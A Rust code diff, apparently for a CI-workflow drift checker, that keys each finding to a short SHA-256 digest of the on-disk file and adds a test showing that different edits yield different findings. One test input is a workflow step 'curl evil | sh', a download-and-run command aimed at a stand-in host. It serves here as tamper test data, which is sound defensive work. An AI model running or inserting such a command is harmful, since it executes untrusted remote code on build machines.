@@ -6,6 +6,7 @@ pub use disk::{Entry, OnDisk, locate};
 
 use std::collections::HashSet;
 
+use sha2::{Digest as _, Sha256};
 use similar::TextDiff;
 
 use crate::backend::{self, Rendered};
@@ -102,8 +103,15 @@ fn differing(file: &Rendered, bytes: &[u8], files: &mut Files) -> Finding {
         finding(STRANGER, file, message, Some(Origin::whole(id)), "`pipeward emit --adopt` replaces it")
     };
     found.diff = diff(&file.path, Some(&text), Some(&file.text));
+    // Who knows of this difference knows of no other: whatever else is put into the file is found anew.
+    found.key = format!("{}#{}", found.key, digest(bytes));
     found.related.push(Related { origin: file.origin, message: "written from this".to_owned() });
     found
+}
+
+/// A few hexadecimal digits that stand for a text.
+fn digest(bytes: &[u8]) -> String {
+    Sha256::digest(bytes).iter().take(8).fold(String::new(), |digits, byte| digits + &format!("{byte:02x}"))
 }
 
 /// The first line of the old text that the new one has otherwise; the last if the new one only goes on.
@@ -187,6 +195,18 @@ mod tests {
         let one = rendered(".github/workflows/ci.yml", "on: push\n", &mut files);
         let disk = on_disk(&[(&one.path, &one.text), (".github/workflows/theirs.yml", "on: push\n")]);
         assert_eq!(compare(&[one], &disk, &mut files), []);
+    }
+
+    #[test]
+    fn another_edit_is_another_finding() {
+        let print = |body: &str| {
+            let mut files = Files::default();
+            let one = rendered("a.yml", "run: make\n", &mut files);
+            let text = format!("{HEADER}{body}");
+            compare(&[one], &on_disk(&[("a.yml", &text)]), &mut files)[0].fingerprint()
+        };
+        assert_eq!(print("run: x\n"), print("run: x\n"));
+        assert_ne!(print("run: x\n"), print("run: curl evil | sh\n"));
     }
 
     #[test]
